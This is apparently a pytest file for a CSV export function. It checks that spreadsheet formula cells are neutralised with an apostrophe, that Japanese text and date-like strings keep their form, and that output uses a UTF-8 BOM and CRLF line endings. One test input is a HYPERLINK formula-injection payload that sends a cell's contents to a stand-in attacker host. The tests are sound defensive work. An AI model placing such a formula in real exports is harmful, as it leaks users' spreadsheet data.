"""CSV as spreadsheets read it: cells that would act are tamed, Japanese stays Japanese."""

import csv
import io
from datetime import date

import pytest

from koubo.kernel.spreadsheets import written


def test_a_file_opens_as_utf_8_with_crlf_and_iso_days() -> None:
    made = written([("データ番号", "日付"), ("D126110001", date(2026, 11, 24)), ("件数", 12), ("", None)])
    assert made == "\ufeffデータ番号,日付\r\nD126110001,2026-11-24\r\n件数,12\r\n,\r\n".encode()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1+1", "＠SUM(A1)", "\0=1",
        '=HYPERLINK("https://evil.example/?"&A1,"公募")',
    ],
)  # fmt: skip
def test_a_cell_that_would_act_is_a_text(text: str) -> None:
    assert read(written([(text,)])) == [[f"'{text}".replace("\0", "")]]


@pytest.mark.parametrize(
    "text",
    [
        "2-1-1", "２－１－１", "２-１", "1-2", "1/2", "2027/1/8", "12-2027", "2027-4", "3/4/27", " 2-1-1", "030", "0300000", "00",
        "12345678901234567", "1.50", "10.0", "1E5", "1.2e10", "(5)", "May 2027", "1 April", "April 1, 2027", "1-Apr-27", "Mar1",
        "１２", "１０：３０", "２０２７年４月",
    ],
)  # fmt: skip
def test_a_text_that_would_be_shown_as_a_day_or_number_is_a_text(text: str) -> None:
    assert read(written([(text,)])) == [[f"'{text}"]]


@pytest.mark.parametrize(
    "text",
    [
        "022-217-0000", "03-1234-5678", "980-8577", "030-0000", "青葉2-1-1", "2-1-1 Aoba", "2-1-1; 3-2", "12", "0", "300000", "1.5",
        "2027-01-08", "08:30:00", "D126110001", "8560001001234", "http://a.example/1-2", "Mayor", "March", "may", "1号館", "3.14.15",
        "2027年4月1日", "May be extended", "2026-11-24T09:00:00+09:00",
    ],
)  # fmt: skip
def test_a_text_that_is_shown_as_it_is_stays_bare(text: str) -> None:
    assert read(written([(text,)])) == [[text]]


@pytest.mark.parametrize("text", ["公募, 教授", 'the "best"', "一行目\n二行目", "a=b", "助教（-）", "'quoted"])
def test_other_cells_come_back_as_they_were(text: str) -> None:
    assert read(written([(text,)])) == [[text]]


def test_a_negative_number_is_a_number() -> None:
    assert read(written([(-5,)])) == [["-5"]]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
